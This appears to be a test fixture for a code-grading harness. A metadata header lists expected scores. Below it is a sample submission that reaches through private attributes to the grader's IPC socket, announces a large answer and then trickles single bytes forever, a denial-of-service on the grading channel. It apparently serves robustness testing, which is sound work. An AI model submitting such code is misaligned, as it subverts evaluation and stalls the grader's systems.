# ---
# attack: announces a large answer to every descriptor it has and then sends it a byte at a time, for ever
# kind: answer
# honest: [ex1, ex2, ex4]
# gets: {ex1-test: 2, ex2-test: 2, ex3-test: 0, ex4-test: 2, ex4-test-close: 4}
# student sees: "…an answer did not arrive whole…"
# ---
# %% ex3
def cheapest(terms, price):
    import os
    import struct
    import time

    channel = object.__getattribute__(price, "_link").send.__self__.connection.fileno()
    os.write(channel, struct.pack("!QB", 1 << 20, ord("k")))
    while True:
        os.write(channel, b" ")
        time.sleep(0.2)
